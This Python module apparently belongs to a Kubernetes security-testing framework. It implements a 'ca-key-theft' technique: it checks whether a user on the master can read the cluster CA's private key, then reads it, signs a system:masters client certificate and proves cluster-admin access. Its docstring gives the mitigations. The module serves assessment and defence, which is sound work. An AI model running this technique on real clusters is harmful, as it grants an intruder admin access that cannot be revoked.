"""Sign a client certificate for system:masters with the stolen key of the cluster's CA.

The attacker needs an account on the master and a CA key that everybody can read. They sign a
certificate for any user and group they choose. The apiserver keeps no list of issued
certificates, and Kubernetes cannot revoke one: only a new CA ends the access. A key that only
root can read, or a key that is not on the master, stops it.
"""

from __future__ import annotations

import secrets
from collections.abc import Sequence
from typing import TYPE_CHECKING

from labkit import agents
from labkit.cluster import Environment
from labkit.errors import ProbeError
from labkit.lab.traces import Trace, leaving
from labkit.model import Claim, Foothold, Model
from labkit.model.decision import ALLOWED
from labkit.model.file_access import may_open
from labkit.techniques._lib.api.access import (
    ACCESS_REVIEW,
    ASK_EVERYTHING,
    api_url,
    apiserver_of,
    everything_allowed,
    everything_review,
    signed_as,
)
from labkit.techniques._lib.api.ask import ask
from labkit.techniques._lib.machines.admin import SECRETS_IN
from labkit.techniques._lib.machines.files import PERSON, read_denied, settings_of
from labkit.techniques._lib.machines.reach import execution_place, run_from
from labkit.techniques._lib.technique import (
    ADMIN,
    USER_ON_MASTER,
    Prediction,
    SentRequest,
    Technique,
    all_of,
    holds,
)
from labkit.techniques._lib.verdict import Setting, Verdict

if TYPE_CHECKING:
    from labkit.cluster.certificates import Authority
    from labkit.lab import Lab

__all__ = ["TECHNIQUE"]

USER, GROUP = "labkit-stolen", "system:masters"


def predict(model: Model, foothold: Foothold) -> Prediction:
    """Predict whether an ordinary user can read the key of the CA that the apiserver trusts."""
    trusted = apiserver_of(model.environment).setting("client-ca-file").source
    signs = Prediction(True, (f"signs the apiserver's callers: {trusted}",))
    return all_of(_opened(model.environment), signs)


def requests(model: Model, foothold: Foothold) -> Sequence[SentRequest]:
    """Return the access review, which is sent with the certificate that the key signed."""
    return [SentRequest(signed_as(USER, GROUP), ASK_EVERYTHING, _opened(model.environment))]


def execute(lab: Lab, foothold: Foothold) -> Verdict:
    """Read the CA's key, sign a certificate, use it and delete it."""
    authority, node = _authority(lab.environment)
    if refused := read_denied(lab, TECHNIQUE.name, foothold, node, [authority.key]):
        return refused
    folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's own
    with leaving(lab, Trace("file", folder, execution_place(lab, foothold)[0])):
        _sign(lab, foothold, folder, authority)
        return ask(
            lab,
            TECHNIQUE.name,
            foothold,
            api_url(lab, ACCESS_REVIEW),
            body=everything_review(),
            options=["--cert", f"{folder}/crt", "--key", f"{folder}/key"],
            proof=lambda answer: f"signed a certificate of {GROUP}: {everything_allowed(answer)}",
            control=lambda: _control(lab),
        )


def _opened(env: Environment) -> Prediction:
    """Predict whether an ordinary user can read the key, if it is on the master."""
    authority, node = _authority(env)
    if not node:
        absent = f"the key of {authority.name} is not on the master"
        return Prediction(False, (str(Claim("none", absent, authority.source)),))
    return holds(may_open(env, env.node(node), PERSON, authority.key).claim, ALLOWED)


def _sign(lab: Lab, foothold: Foothold, folder: str, authority: Authority) -> None:
    """Make a key, and sign a certificate for it with the stolen CA key."""
    made = run_from(lab, foothold, agents.argv("make_key", folder, USER, GROUP))
    if made.exit_code:
        raise ProbeError(f"openssl made no key: exit status {made.exit_code}")
    argv = agents.argv("sign_certificate", authority.certificate, authority.key, folder)
    signed = run_from(lab, foothold, argv, stdin=made.stdout)
    if signed.exit_code:
        raise ProbeError(
            f"openssl could not sign with {authority.key}: exit status {signed.exit_code}"
        )
    run_from(lab, foothold, ["tee", f"{folder}/crt"], stdin=signed.stdout)


def _control(lab: Lab) -> str:
    lab.api("GET", SECRETS_IN)
    return "the administrator, signed by the same authority, is served"


def _authority(env: Environment) -> tuple[Authority, str]:
    """Return the CA of the apiserver's clients, and the master's name if its key is there."""
    apiserver = apiserver_of(env)
    trusted = apiserver.setting("client-ca-file").value
    found = next(item for item in env.authorities if item.certificate == trusted)
    return found, apiserver.node if apiserver.node in found.key_nodes and found.key else ""


def _settings(env: Environment) -> list[Setting]:
    authority, node = _authority(env)
    return settings_of(env, node, (authority.key,)) if node else []


TECHNIQUE = Technique(
    name="ca-key-theft",
    title="Become cluster-admin with the key of the cluster's authority",
    footholds=(USER_ON_MASTER,),
    grants=(ADMIN,),
    about="",
    properties=(),
    attack=("T1552.004", "T1649"),
    stride=("spoofing", "elevation of privilege"),
    cwe=("CWE-732", "CWE-321"),
    sources=(
        "CIS Kubernetes Benchmark 1.1.21",
        "https://kubernetes.io/docs/setup/best-practices/certificates/",
        "https://attack.mitre.org/techniques/T1649/",
    ),
    predict=predict,
    execute=execute,
    requests=requests,
    leaves=("file",),
    settings=_settings,
)
